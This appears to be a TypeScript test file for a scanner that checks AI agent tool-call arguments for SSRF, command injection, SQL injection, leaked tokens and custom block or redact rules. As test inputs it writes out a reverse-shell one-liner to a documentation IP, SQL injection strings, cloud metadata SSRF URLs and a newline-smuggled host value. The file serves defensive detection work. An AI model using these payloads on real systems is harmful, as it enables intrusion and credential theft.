import { describe, expect, it } from 'vitest';
import { compileThreats, MAX_LEAF_CHARS, MAX_LEAVES } from './index.js';
import { displayPath, rolesOf, leafContext, viewLeaves } from './leaves.js';
import { readable } from './text.js';

const roles = (tool: string, key: string, value: string): string[] => [...rolesOf(key, readable(value), leafContext(tool), value)].sort();

describe('threat scanner', () => {
  it('walks every string leaf with its path and names the category, the path and what was seen', () => {
    const { findings } = compileThreats({}).scan('web_fetch', { requests: [{ url: 'https://example.com' }, { url: 'http://169.254.169.254/latest/meta-data/' }], timeout: 5 });
    expect(findings).toEqual([{ category: 'ssrf', path: 'requests[1].url', jsonPath: ['requests', 1, 'url'], detail: 'SSRF to a cloud metadata address' }]);
  });

  it('reads arguments that are a raw string (invalid JSON kept as sent)', () => {
    expect(compileThreats({}).scan('run', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1').findings[0]).toMatchObject({ category: 'command_injection', path: '(arguments)' });
  });

  it('runs only the categories asked for', () => {
    const args = { url: 'http://127.0.0.1/', q: "x' OR '1'='1" };
    expect(compileThreats({}).scan('t', args).findings.map((f) => f.category).sort()).toEqual(['sql_injection', 'ssrf']);
    expect(compileThreats({ categories: ['ssrf'] }).scan('t', args).findings.map((f) => f.category)).toEqual(['ssrf']);
  });

  it('reads the cluster from clusterCidrs and clusterDomains', () => {
    const own = compileThreats({ clusterCidrs: ['172.20.0.0/16'], clusterDomains: ['*.cluster.example'] });
    expect(own.scan('t', { url: 'http://172.20.3.4/' }).findings).toHaveLength(1);
    expect(own.scan('t', { url: 'http://api.prod.cluster.example/' }).findings).toHaveLength(1);
    expect(own.scan('t', { url: 'http://10.96.0.1/' }).findings).toHaveLength(0); // the default range, replaced
    expect(compileThreats({}).scan('t', { url: 'http://10.96.0.1/' }).findings).toHaveLength(1);
  });

  it('runs custom rules: block, and redact with the rewritten value', () => {
    const scanner = compileThreats({ custom: [{ name: 'ticket', pattern: 'TCK-[0-9]{4}', action: 'redact' }, { name: 'drop_prod', pattern: 'prod-db-[a-z]+', action: 'block' }] });
    const out = scanner.scan('note', { text: 'see TCK-1234 and TCK-9876', host: 'prod-db-main' });
    expect(out.findings.map((f) => [f.category, f.rule, f.action, f.path])).toEqual([
      ['custom', 'ticket', 'redact', 'text'],
      ['custom', 'drop_prod', 'block', 'host'],
    ]);
    expect(out.redactions).toEqual([{ jsonPath: ['text'], original: 'see TCK-1234 and TCK-9876', redacted: 'see [REDACTED:ticket] and [REDACTED:ticket]' }]);
    expect(JSON.stringify(out.findings)).not.toContain('TCK-1234');
  });

  it('never puts the matched text in a finding', () => {
    const secret = 'ghp_Ab3dEf6hIj9lMn2pQr5tUv8xYz1BcD4fGh7j';
    const { findings } = compileThreats({}).scan('send_email', { body: `token ${secret}`, url: 'http://169.254.169.254/latest/meta-data/iam/' });
    expect(findings).toHaveLength(2);
    expect(JSON.stringify(findings)).not.toMatch(/ghp_|Ab3dEf|meta-data/);
  });

  it('is bounded: a 5 MB argument is scanned quickly and an attack near its start is found', () => {
    const huge = `x' OR '1'='1 ${'lorem ipsum dolor sit amet '.repeat(200_000)}`;
    expect(huge.length).toBeGreaterThan(5_000_000);
    const scanner = compileThreats({ sensitivity: 'high' });
    scanner.scan('search', { q: 'warm up' });
    const t0 = performance.now();
    const { findings } = scanner.scan('search', { q: huge, other: huge });
    const ms = performance.now() - t0;
    expect(findings.map((f) => f.category)).toContain('sql_injection');
    expect(ms).toBeLessThan(1000);
    // Only the start of each leaf is read.
    const views = viewLeaves('search', { q: huge });
    expect(views[0]!.raw.length).toBe(MAX_LEAF_CHARS);
    expect(views[0]!.truncated).toBe(true);
  });

  it('is bounded in leaves, depth and total characters', () => {
    const many = Array.from({ length: MAX_LEAVES * 2 }, (_, i) => `v${i}`);
    expect(viewLeaves('t', many).length).toBeLessThanOrEqual(MAX_LEAVES);
    let deep: unknown = 'http://169.254.169.254/';
    for (let i = 0; i < 10_000; i++) deep = [deep];
    const t0 = performance.now();
    expect(compileThreats({}).scan('t', deep).findings).toEqual([]); // below MAX_DEPTH: not read
    expect(performance.now() - t0).toBeLessThan(500);
    const wide = Array.from({ length: 50 }, () => 'a'.repeat(60_000));
    const total = viewLeaves('t', wide).reduce((n, v) => n + v.raw.length, 0);
    expect(total).toBeLessThanOrEqual(256 * 1024);
  });

  it('shares the bounds fairly: padding in one argument or one call hides nothing else', () => {
    const scanner = compileThreats({});
    const pad = 'lorem ipsum '.repeat(40_000);
    expect(scanner.scan('t', { padding: pad, more: pad, url: 'http://169.254.169.254/' }).findings.map((f) => f.path)).toEqual(['url']);
    const [first, second] = scanner.scanCalls([{ tool: 'write_file', args: { content: pad } }, { tool: 'web_fetch', args: { url: 'http://169.254.169.254/' } }]);
    expect(first!.findings).toEqual([]);
    expect(second!.findings.map((f) => f.category)).toEqual(['ssrf']);
    const many = Object.fromEntries(Array.from({ length: 450 }, (_, i) => [`k${i}`, pad.slice(0, 2000)]));
    expect(scanner.scan('t', { ...many, z: "x' OR '1'='1" }).findings.map((f) => f.path)).toEqual(['z']);
  });

  it('visits a bounded number of values, however they nest', () => {
    const grid = Array.from({ length: 2000 }, () => Array.from({ length: 2000 }, (_, i) => i));
    const t0 = performance.now();
    compileThreats({}).scan('t', { grid });
    expect(performance.now() - t0).toBeLessThan(500);
  });

  it('a truncated leaf cannot be redacted whole', () => {
    const scanner = compileThreats({ custom: [{ name: 'ticket', pattern: 'TCK-[0-9]{4}', action: 'redact' }] });
    const out = scanner.scan('note', { text: `TCK-1234 ${'x'.repeat(MAX_LEAF_CHARS)}` });
    expect(out.redactions).toHaveLength(1);
    expect(out.redactions[0]!.redacted).toBeUndefined();
  });

  it('gives leaves roles from their key, their tool and their shape', () => {
    expect(roles('db_query', 'sql', 'SELECT 1')).toEqual(['sql']);
    expect(roles('slack', 'text', 'select all that apply')).toEqual(['value']);
    expect(roles('run_command', 'command', 'ls')).toEqual(['shell']);
    expect(roles('bash', 'input', 'ls')).toEqual(['shell']);
    expect(roles('snowflake_execute', 'statement', 'SELECT 1')).toEqual(['sql']);
    expect(roles('read_file', 'path', 'src/a.ts')).toEqual(['path', 'value']);
    expect(roles('fetch', 'url', 'https://example.com/a b')).toEqual(['url', 'value']);
    expect(roles('fetch', 'url', 'https://example.com/a%20b')).toEqual(['url', 'value']);
    expect(roles('fetch', 'url', 'https://example.com/ab')).toEqual(['host', 'url', 'value']);
    expect(roles('ping', 'host', 'example.com%0aid')).toEqual(['value']);
    expect(roles('send_email', 'body', 'Hi team, the deploy went well and the dashboards look fine; let us talk about the next steps tomorrow')).toEqual(['document']);
    expect(displayPath(['a', 0, 'b c'])).toBe('a[0]["b c"]');
    expect(displayPath(['k'.repeat(100)])).toBe(`${'k'.repeat(64)}…`.replace(/^(.*)$/, '["$1"]'));
    expect(displayPath(Array.from({ length: 100 }, () => 'abcdef')).length).toBeLessThanOrEqual(257);
  });
});
